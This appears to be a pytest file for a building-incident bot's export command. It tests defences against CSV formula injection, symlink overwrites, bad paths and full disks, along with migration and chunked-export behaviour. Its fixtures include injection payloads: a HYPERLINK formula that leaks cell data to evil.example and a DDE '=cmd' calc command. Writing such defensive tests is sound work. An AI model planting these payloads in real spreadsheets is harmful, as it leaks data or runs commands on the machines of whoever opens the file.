"""Issue 16 (points 2, 7, 9, 10): exports that are safe to open in Excel and to write anywhere, one
database file whatever the working folder, a command line that starts without migrating a current
schema, and exports streamed in chunks on SQLite and PostgreSQL alike."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import stat
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import insert

from bot.cli import main
from bot.config import Settings
from bot.engines.console import run_console
from storage.db import Database
from storage.models import Incident, IncidentNote, IncidentPhoto, Site

ROOT = Path(__file__).resolve().parents[2]
AT = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
# What residents can make their display name or message say (OWASP CSV injection).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86 138 0000 0000", "-1+1", "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.fixture(autouse=True)
def english(monkeypatch: pytest.MonkeyPatch) -> None:
    """The refusals below are asserted in English (tests/cli/test_language.py: the other languages)."""
    monkeypatch.setenv("DUTYDESK_LANGUAGE", "en")


def seed(url: str, situations: list[str], *, reporter: str = "张三", notes: int = 0) -> None:
    """A site and one incident per situation (numbers 1..n); ``notes`` handling notes and photos on each."""

    async def go() -> None:
        db = Database(url)
        await db.migrate()
        async with db.engine.begin() as conn:
            await conn.execute(insert(Site), [{"code": "HG", "name": "华庭花园", "policy": {}}])
            rows = [
                {
                    "site_id": 1, "number": n, "occurred_at": AT, "logged_at": AT, "reporter_id": 7,
                    "reporter_name": reporter, "category": "other", "severity": "normal", "situation": text,
                }
                for n, text in enumerate(situations, start=1)
            ]  # fmt: skip
            await conn.execute(insert(Incident), rows)
            if notes:
                await conn.execute(
                    insert(IncidentNote),
                    [
                        {
                            "incident_id": i,
                            "author_id": 7,
                            "author_name": "李四",
                            "text": f"第{k}次 #{i}",
                            "created_at": AT,
                        }
                        for i in range(1, len(situations) + 1)
                        for k in range(1, notes + 1)
                    ],
                )
                photos = [
                    {"incident_id": i, "file_id": f"p{i}-{k}", "added_by": 7}
                    for i in range(1, len(situations) + 1)
                    for k in range(i % 3)
                ]
                if photos:
                    await conn.execute(insert(IncidentPhoto), photos)
        await db.dispose()

    asyncio.run(go())


@pytest.fixture
def db_url(any_db: Database) -> str:
    """An empty migrated database on SQLite or PostgreSQL, for the command line (which runs its own loop)."""
    return any_db.url


def export(*args: str) -> int:
    return main(["export", "incidents", *args])


# -- point 2: cells Excel would run, and the output file ---------------------------------------


def test_csv_cells_a_spreadsheet_would_run_are_text_and_jsonl_stays_raw(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    seed(db_url, FORMULAS, reporter="=cmd|' /C calc'!A0")
    assert export("--database", db_url, "--format", "csv", "-o", str(tmp_path / "out.csv")) == 0
    table = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert [row["situation"] for row in table] == ["'" + text for text in FORMULAS]
    assert {row["reporter"] for row in table} == {"'=cmd|' /C calc'!A0"}
    assert table[0]["category"] == "other" and table[0]["number"] == "1"  # ordinary cells untouched
    capsys.readouterr()
    assert export("--database", db_url) == 0
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [row["situation"] for row in lines] == FORMULAS


def test_output_file_is_owner_only_and_replaced_only_with_force(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    seed(db_url, ["3栋大堂漏水"])
    target = tmp_path / "out.jsonl"
    assert export("--database", db_url, "-o", str(target)) == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    first = target.read_bytes()
    capsys.readouterr()
    target.write_bytes(b"yesterday's export\n")
    assert export("--database", db_url, "-o", str(target)) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "exists" in err and "--force" in err
    assert target.read_bytes() == b"yesterday's export\n"
    target.chmod(0o644)
    assert export("--database", db_url, "-o", str(target), "--force") == 0
    assert target.read_bytes() == first and stat.S_IMODE(target.stat().st_mode) == 0o600


def test_output_never_follows_a_symlink(db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    seed(db_url, ["3栋大堂漏水"])
    victim = tmp_path / "passwords.txt"
    victim.write_text("keep me\n")
    link = tmp_path / "out.csv"
    link.symlink_to(victim)
    dangling = tmp_path / "new.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    for args in ([str(link)], [str(link), "--force"], [str(dangling)], [str(dangling), "--force"]):
        capsys.readouterr()
        assert export("--database", db_url, "--format", "csv", "-o", *args) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "symbolic link" in err
    assert victim.read_text() == "keep me\n" and not (tmp_path / "nowhere.csv").exists()


def test_a_path_that_cannot_be_written_is_one_line_and_exit_2(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    seed(db_url, ["3栋大堂漏水"])
    if os.geteuid() == 0:  # root may write any folder; a file system that refuses it is needed
        unwritable = Path("/sys/dutydesk-export.csv")
    else:
        (tmp_path / "locked").mkdir(mode=0o500)
        unwritable = tmp_path / "locked" / "out.csv"
    cases = {
        str(tmp_path / "no" / "such" / "out.csv"): "no such folder",
        str(tmp_path): "is a folder",
        str(unwritable): "permission denied",
    }
    for path, said in cases.items():
        capsys.readouterr()
        assert export("--database", db_url, "-o", path) == 2, path
        err = capsys.readouterr().err
        assert err.startswith("dutydesk: ") and err.count("\n") == 1 and said in err, err
    assert not (tmp_path / "no").exists()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full (Linux)")
def test_a_full_disk_is_one_line_and_exit_1(tmp_path: Path, migrated_file: Callable[[Path], str]) -> None:
    url = migrated_file(tmp_path / "dutydesk.db")
    seed(url, ["3栋大堂漏水"])
    with open("/dev/full", "w") as full:  # every write: "No space left on device"
        done = subprocess.run(
            [sys.executable, "-m", "bot.cli", "export", "incidents", "--database", url],
            cwd=ROOT, stdout=full, stderr=subprocess.PIPE, text=True, timeout=60,
        )  # fmt: skip
    assert done.returncode == 1 and done.stderr == "dutydesk: writing the output failed: No space left on device\n"


# -- point 7: one database file, and no empty database made by a typo ---------------------------


def test_relative_sqlite_url_is_one_file_whatever_the_working_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    name = f"relative-{os.getpid()}.db"
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("BOT_TOKEN", raising=False)
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///./{name}")
    try:
        script = io.StringIO("/setup HG 华庭花园\n/log 3栋大堂漏水，已通知维修\n:quit\n")
        assert asyncio.run(run_console(Settings(_env_file=None), stdin=script, out=io.StringIO())) == 0  # type: ignore[call-arg]
        capsys.readouterr()
        assert main(["export", "incidents"]) == 0
        [row] = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
        assert "3栋大堂漏水" in row["situation"]
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600
        assert not (ROOT / name).exists()  # the migration made no second file where the code lives
    finally:
        (ROOT / name).unlink(missing_ok=True)


@pytest.mark.parametrize("verb", [["export", "incidents"], ["staff", "list"], ["outbox"], ["chat"]])
def test_a_database_folder_that_does_not_exist_is_said_not_made(
    verb: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "typo"
    assert main([*verb, "--database", f"sqlite+aiosqlite:///{missing}/dutydesk.db"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and str(missing) in err and "Traceback" not in err
    assert not missing.exists()


# -- point 9: start-up ------------------------------------------------------------------------


def test_a_current_schema_is_not_migrated_again(db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    seed(db_url, ["3栋大堂漏水"])

    async def no_child(*args: object, **kwargs: object) -> None:
        raise AssertionError("the migration child ran on a current schema")

    monkeypatch.setattr(asyncio, "create_subprocess_exec", no_child)
    assert export("--database", db_url) == 0
    assert main(["staff", "list", "--database", db_url]) == 0


def test_a_new_database_is_still_migrated(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert export("--database", f"sqlite+aiosqlite:///{tmp_path}/new.db") == 0
    assert capsys.readouterr().err == "dutydesk: exported 0 incidents\n"


def test_version_and_help_load_neither_settings_nor_database() -> None:
    probe = (
        "import sys, contextlib, io\n"
        "from bot.cli import main\n"
        "for argv in (['--version'], ['--help'], ['export', '--help']):\n"
        "    with contextlib.suppress(SystemExit), contextlib.redirect_stdout(io.StringIO()):\n"
        "        main(argv)\n"
        "print(sorted(m for m in ('sqlalchemy', 'sqlmodel', 'pydantic', 'alembic', 'asyncio') if m in sys.modules))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], cwd=ROOT, capture_output=True, text=True, timeout=60, check=True
    )
    assert done.stdout.strip() == "[]"


# -- point 10: streamed exports ---------------------------------------------------------------


def test_rows_keep_their_notes_and_photos_across_chunks(
    db_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from storage.repos import chunks

    seed(db_url, [f"巡查 {n}" for n in range(1, 12)], notes=2)
    monkeypatch.setattr(chunks, "CHUNK", 4)  # 11 incidents: three chunks, the last one short
    assert export("--database", db_url) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [r["number"] for r in rows] == list(range(1, 12))
    for r in rows:
        n = r["number"]
        assert r["situation"] == f"巡查 {n}" and r["photos"] == n % 3
        assert r["occurred_at"] == r["logged_at"] == "2026-11-23T10:00:00+08:00" and r["closed_at"] is None
        assert (
            r["handling"]
            == f"[2026-11-23T10:00:00+08:00] 李四: 第1次 #{n}\n[2026-11-23T10:00:00+08:00] 李四: 第2次 #{n}"
        )


async def test_an_export_never_holds_the_write_lock(sqlite_db: Database) -> None:
    """An export reads in one long transaction; on SQLite it must not keep the bot from writing."""
    from storage.repos import chunks

    reader = Database(sqlite_db.url, read_only=True)
    writer = Database(sqlite_db.url)
    try:
        async with reader.session() as session:
            rows = chunks.records(session, Site, "id")
            assert await anext(rows, []) == []  # the read transaction is open
            async with asyncio.timeout(5), writer.session() as other:
                other.add(Site(code="HG", name="华庭花园"))
    finally:
        await reader.dispose()
        await writer.dispose()
